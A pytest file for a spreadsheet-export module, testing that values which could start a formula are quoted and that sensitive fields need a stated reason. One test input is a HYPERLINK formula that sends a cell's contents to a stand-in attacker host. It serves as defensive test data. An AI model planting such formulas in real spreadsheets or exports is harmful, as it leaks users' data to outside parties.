"""The export rules on their own: formula injection, which fields need a reason."""

from __future__ import annotations

import pytest

from cases import exports


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+7 701 000 0000", "'+7 701 000 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),  # spaces first: some spreadsheets trim them and read a formula
        ("\u00a0=1", "'\u00a0=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("", ""),
        ("SHG-2026-000042", "SHG-2026-000042"),
        ("2026-03-01 10:00", "2026-03-01 10:00"),
        ("a = b", "a = b"),
        ("Беатриса - свидетель", "Беатриса - свидетель"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_text_that_would_start_a_formula_is_quoted(value, safe):
    assert exports.neutralise(value) == safe


def test_the_default_fields_are_the_minimal_set_and_the_rest_are_sensitive():
    assert exports.DEFAULT_FIELDS == (
        "reference",
        "received",
        "category",
        "region",
        "channel",
        "priority",
        "status",
        "queue",
        "assignee",
        "first_response",
        "first_response_due",
        "first_response_at",
        "resolution",
        "resolution_due",
        "resolved_at",
    )
    assert set(exports.SENSITIVE_FIELDS) == {"narrative", "place_description", "contact_email", "contact_phone"}


@pytest.mark.parametrize(
    ("fields", "fmt", "reason", "problems"),
    [
        (exports.DEFAULT_FIELDS, "csv", "", []),
        (("reference",), "xlsx", "", []),
        ((), "csv", "", ["fields"]),
        (("reference", "receipt_hash"), "csv", "", ["fields"]),
        (("reference",), "ods", "", ["format"]),
        (("reference", "narrative"), "csv", "", ["reason"]),
        (("contact_phone",), "csv", "too short", ["reason"]),
        (("contact_phone",), "csv", "Asked by the court in case 12/2026", []),
        (("reference",), "csv", "x" * 501, ["reason"]),
        ((), "pdf", "", ["fields", "format"]),
    ],
)
def test_a_choice_is_refused_for_each_rule_it_breaks(fields, fmt, reason, problems):
    choice = exports.Choice.of(fields, fmt, reason)
    assert [p.field for p in choice.problems()] == problems


def test_a_choice_keeps_the_fields_in_the_files_order_and_tidies_the_reason():
    choice = exports.Choice.of(["narrative", "status", "reference"], "csv", "  Asked by\n the  court  ")
    assert choice.fields == ("reference", "status", "narrative")
    assert choice.sensitive == ("narrative",)
    assert choice.reason == "Asked by the court"
